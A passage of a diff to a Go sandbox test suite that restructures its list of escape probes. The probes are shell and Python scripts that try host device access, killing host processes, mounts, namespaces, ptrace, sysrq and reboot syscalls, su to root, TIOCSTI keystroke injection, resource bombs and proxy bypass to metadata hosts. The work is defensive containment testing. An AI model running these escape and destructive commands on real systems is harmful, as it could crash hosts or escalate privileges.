-		script: `d=$(ls /dev | tr '\n' ' '); echo "$d"; for x in /dev/vda /dev/sda /dev/mem /dev/kmem /dev/kmsg /dev/port /dev/fuse /dev/net/tun; do [ -e $x ] && echo "ESCAPED: $x"; done; mknod /tmp/null2 c 1 3 2>/dev/null && echo "ESCAPED: mknod"; echo x > /dev/null && echo CONTAINED`},
-	{name: "fifo-workspace", threat: "SBX-01", what: "leave a FIFO in the workspace for the host to open and hang on",
-		script: `mkfifo report.txt 2>&1; mkfifo notes/report.txt 2>&1; mknod pipe p 2>&1; for p in report.txt notes/report.txt pipe; do [ -p "$p" ] && echo "ESCAPED: FIFO $p created"; done; echo CONTAINED`,
-		check:  func(_ *probeEnv, ws string, _ *Result, _ string) error { return noSpecialFilesUnder(ws) }},
-	{name: "fifo-tmp", threat: "SBX-01", what: "make a FIFO in the private /tmp and /dev/shm",
-		script: `mkfifo /tmp/fifo 2>&1; mkfifo /dev/shm/fifo 2>&1; for p in /tmp/fifo /dev/shm/fifo; do [ -p "$p" ] && echo "ESCAPED: FIFO $p created"; done; echo CONTAINED`},
-	{name: "fifo-python", threat: "SBX-01", what: "make a FIFO with Python's os.mkfifo and os.mknod",
-		script: `if ! command -v python3 >/dev/null; then echo "python3 absent: nothing to try"; echo CONTAINED; exit; fi; python3 -c '
+		// SBX-02: hardening.
+		{name: "capabilities", threat: "SBX-02", what: "hold any capability, lack no_new_privs or seccomp",
+			script: `grep -E '^(Cap(Inh|Prm|Eff|Bnd|Amb)|NoNewPrivs|Seccomp):' /proc/self/status; bad=$(grep -E '^Cap(Inh|Prm|Eff|Bnd|Amb):' /proc/self/status | grep -v '0000000000000000'); grep -q '^NoNewPrivs:[[:space:]]*1' /proc/self/status || bad="$bad nnp"; grep -q '^Seccomp:[[:space:]]*2' /proc/self/status || bad="$bad seccomp"; if [ -n "$bad" ]; then echo "ESCAPED: $bad"; else echo CONTAINED; fi`},
+		{name: "host-uid", threat: "SBX-02", what: "run as a privileged host uid or keep host groups",
+			script: `cat /proc/self/uid_map; bad=$(awk '$2 < 1000000 {print "host uid " $2}' /proc/self/uid_map /proc/self/gid_map); g=$(grep '^Groups:' /proc/self/status | cut -f2 | tr -d ' '); [ -n "$g" ] && bad="$bad groups $g"; if [ -n "$bad" ]; then echo "ESCAPED: $bad"; else echo CONTAINED; fi`},
+		{name: "host-pids", threat: "SBX-02", what: "see host processes",
+			script: `n=$(ls -d /proc/[0-9]* | wc -l); echo "$n processes; pid 1: $(cat /proc/1/comm)"; if [ "$n" -le 6 ] && [ -d /proc/1 ] && ! grep -qs . /proc/$VICTIM_PID/cmdline; then echo CONTAINED; else echo "ESCAPED: host processes visible"; fi`},
+		{name: "signal-host", threat: "SBX-02", what: "kill a host process",
+			script: `kill -9 "$VICTIM_PID" 2>&1; kill -9 -1 2>&1; echo CONTAINED`,
+			check: func(env *probeEnv, _ string, _ *Result, _ string) error {
+				if err := env.victim.Process.Signal(unix.Signal(0)); err != nil {
+					return fmt.Errorf("the host victim process died: %v", err)
+				}
+				return nil
+			}},
+		{name: "mount", threat: "SBX-02", what: "mount, bind-mount or unmount",
+			script: `mkdir -p /tmp/m; mount -t tmpfs none /tmp/m 2>/dev/null && echo "ESCAPED: tmpfs mounted"; mount --bind / /tmp/m 2>/dev/null && echo "ESCAPED: bind"; umount -l /proc 2>/dev/null && echo "ESCAPED: umount"; ` +
+				denied(sysArg("mount", unix.SYS_MOUNT), sysArg("umount2", unix.SYS_UMOUNT2), sysArg("pivot_root", unix.SYS_PIVOT_ROOT), sysArg("open_tree", unix.SYS_OPEN_TREE), sysArg("fsopen", unix.SYS_FSOPEN), sysArg("chroot", unix.SYS_CHROOT))},
+		{name: "namespaces", threat: "SBX-02", what: "create nested namespaces (unshare -r, clone flags, setns)",
+			script: `unshare -U -r true 2>/dev/null && echo "ESCAPED: unshare -Ur"; unshare -n true 2>/dev/null && echo "ESCAPED: unshare -n"; ` +
+				denied(sysArg("unshare-user", unix.SYS_UNSHARE, unix.CLONE_NEWUSER), sysArg("unshare-mnt", unix.SYS_UNSHARE, unix.CLONE_NEWNS), sysArg("setns", unix.SYS_SETNS, 0, 0), sysArg("clone-newuser", unix.SYS_CLONE, unix.CLONE_NEWUSER), sysArg("clone3", unix.SYS_CLONE3, 0, 0))},
+		{name: "ptrace", threat: "SBX-02", what: "trace or read another process's memory",
+			script: `strace -f true >/dev/null 2>&1 && echo "ESCAPED: strace ran"; ` +
+				denied(sysArg("ptrace-traceme", unix.SYS_PTRACE, 0), sysArg("ptrace-attach", unix.SYS_PTRACE, 16, 1), sysArg("process_vm_readv", unix.SYS_PROCESS_VM_READV, 1, 0, 0, 0, 0, 0), sysArg("pidfd_getfd", unix.SYS_PIDFD_GETFD, 0, 0, 0))},
+		{name: "devices", threat: "SBX-02", what: "reach host devices or create device nodes",
+			script: `d=$(ls /dev | tr '\n' ' '); echo "$d"; for x in /dev/vda /dev/sda /dev/mem /dev/kmem /dev/kmsg /dev/port /dev/fuse /dev/net/tun; do [ -e $x ] && echo "ESCAPED: $x"; done; mknod /tmp/null2 c 1 3 2>/dev/null && echo "ESCAPED: mknod"; echo x > /dev/null && echo CONTAINED`},
+		{name: "fifo-workspace", threat: "SBX-01", what: "leave a FIFO in the workspace for the host to open and hang on",
+			script: `mkfifo report.txt 2>&1; mkfifo notes/report.txt 2>&1; mknod pipe p 2>&1; for p in report.txt notes/report.txt pipe; do [ -p "$p" ] && echo "ESCAPED: FIFO $p created"; done; echo CONTAINED`,
+			check:  func(_ *probeEnv, ws string, _ *Result, _ string) error { return noSpecialFilesUnder(ws) }},
+		{name: "fifo-tmp", threat: "SBX-01", what: "make a FIFO in the private /tmp and /dev/shm",
+			script: `mkfifo /tmp/fifo 2>&1; mkfifo /dev/shm/fifo 2>&1; for p in /tmp/fifo /dev/shm/fifo; do [ -p "$p" ] && echo "ESCAPED: FIFO $p created"; done; echo CONTAINED`},
+		{name: "fifo-python", threat: "SBX-01", what: "make a FIFO with Python's os.mkfifo and os.mknod",
+			script: `if ! command -v python3 >/dev/null; then echo "python3 absent: nothing to try"; echo CONTAINED; exit; fi; python3 -c '
 import os, stat
 bad = 0
 for name, fn in [("os.mkfifo", lambda: os.mkfifo("py.fifo")), ("os.mknod S_IFIFO", lambda: os.mknod("py2.fifo", stat.S_IFIFO | 0o644)), ("os.mkfifo /tmp", lambda: os.mkfifo("/tmp/py.fifo"))]:
@@ -647,24 +648,24 @@ for name, fn in [("os.mkfifo", lambda: os.mkfifo("py.fifo")), ("os.mknod S_IFIFO
         fn(); print("ESCAPED:", name); bad = 1
     except OSError as e: print(name, e)
 print("CONTAINED" if not bad else "FAILED")'`,
-		check: func(_ *probeEnv, ws string, _ *Result, _ string) error { return noSpecialFilesUnder(ws) }},
-	{name: "mknod-devices", threat: "SBX-02", what: "create char, block and whiteout device nodes; raw mknodat with FIFO and device types",
-		script: `for spec in "null2 c 1 3" "disk b 8 0" "whiteout c 0 0" "/tmp/null3 c 1 3" "/tmp/disk2 b 8 0"; do set -- $spec; mknod "$1" "$2" "$3" "$4" 2>/dev/null && echo "ESCAPED: mknod $spec"; done; ` +
-			denied(sysArg("mknodat-fifo", unix.SYS_MKNODAT, 0, 0, unix.S_IFIFO|0o644, 0), sysArg("mknodat-char", unix.SYS_MKNODAT, 0, 0, unix.S_IFCHR|0o644, 0x103),
-				sysArg("mknodat-block", unix.SYS_MKNODAT, 0, 0, unix.S_IFBLK|0o644, 0x800), sysArg("mknodat-fifo-high-bits", unix.SYS_MKNODAT, 0, 0, 1<<32|1<<16|unix.S_IFIFO|0o644, 0)),
-		check: func(_ *probeEnv, ws string, _ *Result, _ string) error { return noSpecialFilesUnder(ws) }},
-	{name: "kernel-interfaces", threat: "SBX-02", what: "write /proc/sys, sysrq or cgroup files",
-		script: `echo evil > /proc/sys/kernel/hostname 2>/dev/null && echo "ESCAPED: hostname sysctl"; echo b > /proc/sysrq-trigger 2>/dev/null && echo "ESCAPED: sysrq"; echo 1 > /proc/sys/vm/drop_caches 2>/dev/null && echo "ESCAPED: drop_caches"; [ -d /sys/fs/cgroup ] && echo "ESCAPED: cgroupfs visible"; echo CONTAINED`},
-	{name: "io-uring", threat: "SBX-02", what: "set up io_uring (bypasses syscall filtering)",
-		script: denied(sysArg("io_uring_setup", unix.SYS_IO_URING_SETUP, 8, 0), sysArg("io_uring_enter", unix.SYS_IO_URING_ENTER, 0, 0, 0, 0, 0, 0), sysArg("io_uring_register", unix.SYS_IO_URING_REGISTER, 0, 0, 0, 0))},
-	{name: "kernel-syscalls", threat: "SBX-02", what: "bpf, perf, keyrings, userfaultfd, modules, kexec, reboot, swap",
-		script: denied(sysArg("bpf", unix.SYS_BPF, 0, 0, 0), sysArg("perf_event_open", unix.SYS_PERF_EVENT_OPEN, 0, 0, 0, 0, 0),
-			sysArg("keyctl", unix.SYS_KEYCTL, 0, 0), sysArg("add_key", unix.SYS_ADD_KEY, 0, 0, 0, 0, 0), sysArg("request_key", unix.SYS_REQUEST_KEY, 0, 0, 0, 0),
-			sysArg("userfaultfd", unix.SYS_USERFAULTFD, 0), sysArg("init_module", unix.SYS_INIT_MODULE, 0, 0, 0), sysArg("finit_module", unix.SYS_FINIT_MODULE, 0, 0, 0),
-			sysArg("delete_module", unix.SYS_DELETE_MODULE, 0, 0), sysArg("kexec_load", unix.SYS_KEXEC_LOAD, 0, 0, 0, 0), sysArg("reboot", unix.SYS_REBOOT, 0, 0, 0, 0),
-			sysArg("swapon", unix.SYS_SWAPON, 0, 0), sysArg("open_by_handle_at", unix.SYS_OPEN_BY_HANDLE_AT, 0, 0, 0), sysArg("syslog", unix.SYS_SYSLOG, 3, 0, 0))},
-	{name: "tiocsti", threat: "SBX-09", what: "inject keystrokes or change a terminal (TIOCSTI, TIOCLINUX, TIOCSETD)",
-		script: `python3 -c '
+			check: func(_ *probeEnv, ws string, _ *Result, _ string) error { return noSpecialFilesUnder(ws) }},
+		{name: "mknod-devices", threat: "SBX-02", what: "create char, block and whiteout device nodes; raw mknodat with FIFO and device types",
+			script: `for spec in "null2 c 1 3" "disk b 8 0" "whiteout c 0 0" "/tmp/null3 c 1 3" "/tmp/disk2 b 8 0"; do set -- $spec; mknod "$1" "$2" "$3" "$4" 2>/dev/null && echo "ESCAPED: mknod $spec"; done; ` +
+				denied(sysArg("mknodat-fifo", unix.SYS_MKNODAT, 0, 0, unix.S_IFIFO|0o644, 0), sysArg("mknodat-char", unix.SYS_MKNODAT, 0, 0, unix.S_IFCHR|0o644, 0x103),
+					sysArg("mknodat-block", unix.SYS_MKNODAT, 0, 0, unix.S_IFBLK|0o644, 0x800), sysArg("mknodat-fifo-high-bits", unix.SYS_MKNODAT, 0, 0, 1<<32|1<<16|unix.S_IFIFO|0o644, 0)),
+			check: func(_ *probeEnv, ws string, _ *Result, _ string) error { return noSpecialFilesUnder(ws) }},
+		{name: "kernel-interfaces", threat: "SBX-02", what: "write /proc/sys, sysrq or cgroup files",
+			script: `echo evil > /proc/sys/kernel/hostname 2>/dev/null && echo "ESCAPED: hostname sysctl"; echo b > /proc/sysrq-trigger 2>/dev/null && echo "ESCAPED: sysrq"; echo 1 > /proc/sys/vm/drop_caches 2>/dev/null && echo "ESCAPED: drop_caches"; [ -d /sys/fs/cgroup ] && echo "ESCAPED: cgroupfs visible"; echo CONTAINED`},
+		{name: "io-uring", threat: "SBX-02", what: "set up io_uring (bypasses syscall filtering)",
+			script: denied(sysArg("io_uring_setup", unix.SYS_IO_URING_SETUP, 8, 0), sysArg("io_uring_enter", unix.SYS_IO_URING_ENTER, 0, 0, 0, 0, 0, 0), sysArg("io_uring_register", unix.SYS_IO_URING_REGISTER, 0, 0, 0, 0))},
+		{name: "kernel-syscalls", threat: "SBX-02", what: "bpf, perf, keyrings, userfaultfd, modules, kexec, reboot, swap",
+			script: denied(sysArg("bpf", unix.SYS_BPF, 0, 0, 0), sysArg("perf_event_open", unix.SYS_PERF_EVENT_OPEN, 0, 0, 0, 0, 0),
+				sysArg("keyctl", unix.SYS_KEYCTL, 0, 0), sysArg("add_key", unix.SYS_ADD_KEY, 0, 0, 0, 0, 0), sysArg("request_key", unix.SYS_REQUEST_KEY, 0, 0, 0, 0),
+				sysArg("userfaultfd", unix.SYS_USERFAULTFD, 0), sysArg("init_module", unix.SYS_INIT_MODULE, 0, 0, 0), sysArg("finit_module", unix.SYS_FINIT_MODULE, 0, 0, 0),
+				sysArg("delete_module", unix.SYS_DELETE_MODULE, 0, 0), sysArg("kexec_load", unix.SYS_KEXEC_LOAD, 0, 0, 0, 0), sysArg("reboot", unix.SYS_REBOOT, 0, 0, 0, 0),
+				sysArg("swapon", unix.SYS_SWAPON, 0, 0), sysArg("open_by_handle_at", unix.SYS_OPEN_BY_HANDLE_AT, 0, 0, 0), sysArg("syslog", unix.SYS_SYSLOG, 3, 0, 0))},
+		{name: "tiocsti", threat: "SBX-09", what: "inject keystrokes or change a terminal (TIOCSTI, TIOCLINUX, TIOCSETD)",
+			script: `python3 -c '
 import ctypes, errno, fcntl, os, pty, sys
 libc = ctypes.CDLL(None, use_errno=True)
 libc.ioctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_char_p]
@@ -679,13 +680,13 @@ for fd, name in [(s, "pty slave"), (0, "stdin"), (os.open("/dev/null", os.O_RDWR
         if r != -1 or e != errno.EPERM:
             print("ESCAPED: %s on %s not refused by the filter" % (cname, name)); bad = 1
 print("CONTAINED" if not bad else "FAILED")'`},
-	{name: "setuid-binaries", threat: "SBX-02", what: "gain root through a setuid program (su)",
-		script: `su root -c 'echo ESCAPED: su ran as root' </dev/null 2>&1 | head -2; grep -q '^CapEff:[[:space:]]*0000000000000000' /proc/self/status && echo CONTAINED`},
+		{name: "setuid-binaries", threat: "SBX-02", what: "gain root through a setuid program (su)",
+			script: `su root -c 'echo ESCAPED: su ran as root' </dev/null 2>&1 | head -2; grep -q '^CapEff:[[:space:]]*0000000000000000' /proc/self/status && echo CONTAINED`},
 
-	// SBX-06: resource bombs.
-	{name: "fork-bomb", threat: "SBX-06", what: "start 300 processes under a limit of 32",
-		config: func(_ *probeEnv, c *Config) { c.Pids, c.Timeout = 32, 15*time.Second },
-		script: `python3 -c '
+		// SBX-06: resource bombs.
+		{name: "fork-bomb", threat: "SBX-06", what: "start 300 processes under a limit of 32",
+			config: func(_ *probeEnv, c *Config) { c.Pids, c.Timeout = 32, 15*time.Second },
+			script: `python3 -c '
 import os, time
 kids = 0
 for i in range(300):
@@ -699,70 +700,71 @@ for i in range(300):
 n = len([p for p in os.listdir("/proc") if p.isdigit()])
 print(n, "processes")
 print("CONTAINED" if n <= 32 else "ESCAPED: %d processes" % n)'`},
-	{name: "memory-bomb", threat: "SBX-06", what: "allocate 1 GiB, or 200 MiB across 5 processes, under 96 MiB",
-		config: func(_ *probeEnv, c *Config) { c.Memory = 96 << 20 },
-		script: `python3 -c 'b = bytearray(1 << 30); b[::4096] = b"x" * (len(b) // 4096); print("ALLOCATED")' 2>&1 | tail -1; python3 -c '
+		{name: "memory-bomb", threat: "SBX-06", what: "allocate 1 GiB, or 200 MiB across 5 processes, under 96 MiB",
+			config: func(_ *probeEnv, c *Config) { c.Memory = 96 << 20 },
+			script: `python3 -c 'b = bytearray(1 << 30); b[::4096] = b"x" * (len(b) // 4096); print("ALLOCATED")' 2>&1 | tail -1; python3 -c '
 import os, time
 for i in range(5):
     if os.fork() == 0:
         b = bytearray(40 << 20); b[::4096] = b"x" * len(b[::4096]); time.sleep(1); os._exit(0)
 print("tree of 200 MiB:", "ALLOCATED" if all(os.wait()[1] == 0 for _ in range(5)) else "killed")'; head -c 300000000 /dev/zero > /tmp/fill 2>/dev/null; s=$(stat -c %s /tmp/fill); echo "tmp file $s bytes"; rm -f /tmp/fill; [ "$s" -le 50331648 ] && echo CONTAINED`,
-		check: func(_ *probeEnv, _ string, res *Result, out string) error {
-			if strings.Contains(out, "ALLOCATED") {
-				return errors.New("more than the 96 MiB limit was allocated (one process or a tree)")
-			}
-			if !res.OOMKilled {
-				return errors.New("the memory cgroup did not act on a 200 MiB tree")
-			}
-			return nil
-		}},
-	{name: "output-flood", threat: "SBX-06", what: "write 50 MB to stdout under a 64 KiB cap",
-		config:   func(_ *probeEnv, c *Config) { c.MaxOutput = 64 << 10 },
-		noMarker: true,
-		script:   `head -c 50000000 /dev/zero | tr '\0' 'y'; echo; echo CONTAINED`,
-		check: func(_ *probeEnv, _ string, res *Result, out string) error {
-			if !res.OutputTruncated || len(out) > 64<<10+200 {
-				return fmt.Errorf("output not capped: truncated=%v, %d bytes", res.OutputTruncated, len(out))
-			}
-			return nil
-		}},
-	{name: "timeout-tree", threat: "SBX-06", what: "outlive the timeout with a background process",
-		config:   func(_ *probeEnv, c *Config) { c.Timeout = 500 * time.Millisecond },
-		noMarker: true,
-		script:   `(sleep 60; echo ESCAPED) & sleep 60`,
-		check: func(env *probeEnv, _ string, res *Result, out string) error {
-			if !res.TimedOut || res.Duration > 5*time.Second {
-				return fmt.Errorf("not killed at the timeout: timed out=%v after %v", res.TimedOut, res.Duration)
-			}
-			if left := env.processesLeft(); len(left) > 0 {
-				return fmt.Errorf("processes left behind: %v", left)
-			}
-			return nil
-		}},
-	{name: "cpu-limit", threat: "SBX-06", what: "spin past a 1 s CPU limit",
-		config:   func(_ *probeEnv, c *Config) { c.CPU, c.Timeout = time.Second, 20*time.Second },
-		noMarker: true,
-		script:   `while :; do :; done`,
-		check: func(_ *probeEnv, _ string, res *Result, out string) error {
-			if res.TimedOut || res.Signal == "" {
-				return fmt.Errorf("not stopped by the CPU limit: signal %q, timed out %v, %v", res.Signal, res.TimedOut, res.Duration)
-			}
-			return nil
-		}},
+			check: func(_ *probeEnv, _ string, res *Result, out string) error {
+				if strings.Contains(out, "ALLOCATED") {
+					return errors.New("more than the 96 MiB limit was allocated (one process or a tree)")
+				}
+				if !res.OOMKilled {
+					return errors.New("the memory cgroup did not act on a 200 MiB tree")
+				}
+				return nil
+			}},
+		{name: "output-flood", threat: "SBX-06", what: "write 50 MB to stdout under a 64 KiB cap",
+			config:   func(_ *probeEnv, c *Config) { c.MaxOutput = 64 << 10 },
+			noMarker: true,
+			script:   `head -c 50000000 /dev/zero | tr '\0' 'y'; echo; echo CONTAINED`,
+			check: func(_ *probeEnv, _ string, res *Result, out string) error {
+				if !res.OutputTruncated || len(out) > 64<<10+200 {
+					return fmt.Errorf("output not capped: truncated=%v, %d bytes", res.OutputTruncated, len(out))
+				}
+				return nil
+			}},
+		{name: "timeout-tree", threat: "SBX-06", what: "outlive the timeout with a background process",
+			config:   func(_ *probeEnv, c *Config) { c.Timeout = 500 * time.Millisecond },
+			noMarker: true,
+			script:   `(sleep 60; echo ESCAPED) & sleep 60`,
+			check: func(env *probeEnv, _ string, res *Result, out string) error {
+				if !res.TimedOut || res.Duration > 5*time.Second {
+					return fmt.Errorf("not killed at the timeout: timed out=%v after %v", res.TimedOut, res.Duration)
+				}
+				if left := env.processesLeft(); len(left) > 0 {
+					return fmt.Errorf("processes left behind: %v", left)
+				}
+				return nil
+			}},
+		{name: "cpu-limit", threat: "SBX-06", what: "spin past a 1 s CPU limit",
+			config:   func(_ *probeEnv, c *Config) { c.CPU, c.Timeout = time.Second, 20*time.Second },
+			noMarker: true,
+			script:   `while :; do :; done`,
+			check: func(_ *probeEnv, _ string, res *Result, out string) error {
+				if res.TimedOut || res.Signal == "" {
+					return fmt.Errorf("not stopped by the CPU limit: signal %q, timed out %v, %v", res.Signal, res.TimedOut, res.Duration)
+				}
+				return nil
+			}},
+	}
 }
 
 // allProbes is the full suite on this machine's architecture.
 func allProbes() []probe {
-	list := append([]probe{}, probes...)
-	list = append(list, archProbes()...)
-	return append(list, proxyProbes...)
+	list := append(baseProbes(), archProbes()...)
+	return append(list, proxyProbes()...)
 }
 
 // proxyProbes try to get past the egress proxy that --allow-net sets up.
-var proxyProbes = []probe{
-	{name: "proxy-escape", threat: "SBX-04/05", what: "use the egress proxy to reach loopback, metadata, the host or unlisted hosts",
-		config: func(_ *probeEnv, c *Config) { c.AllowNet = []string{"example.com"} },
-		script: `python3 -c '
+func proxyProbes() []probe {
+	return []probe{
+		{name: "proxy-escape", threat: "SBX-04/05", what: "use the egress proxy to reach loopback, metadata, the host or unlisted hosts",
+			config: func(_ *probeEnv, c *Config) { c.AllowNet = []string{"example.com"} },
+			script: `python3 -c '
 import os, socket
 P = os.environ["HOST_PORT"]; H = os.environ.get("HOST_IP") or "10.0.0.1"
 def req(head):
@@ -788,10 +790,11 @@ except OSError as e: print("direct:", e)
 for k in ["HTTP_PROXY", "HTTPS_PROXY"]:
     print(k, os.environ.get(k))
 print("CONTAINED" if answered == 8 and os.environ.get("HTTPS_PROXY") else "FAILED: the proxy did not answer")'`,
-		check: func(env *probeEnv, _ string, _ *Result, _ string) error {
-			if n := env.accepts.Load(); n > 0 {
-				return fmt.Errorf("the host listener accepted %d connection(s)", n)
-			}
-			return nil
-		}},
+			check: func(env *probeEnv, _ string, _ *Result, _ string) error {
+				if n := env.accepts.Load(); n > 0 {
+					return fmt.Errorf("the host listener accepted %d connection(s)", n)
+				}
+				return nil
+			}},
+	}
 }
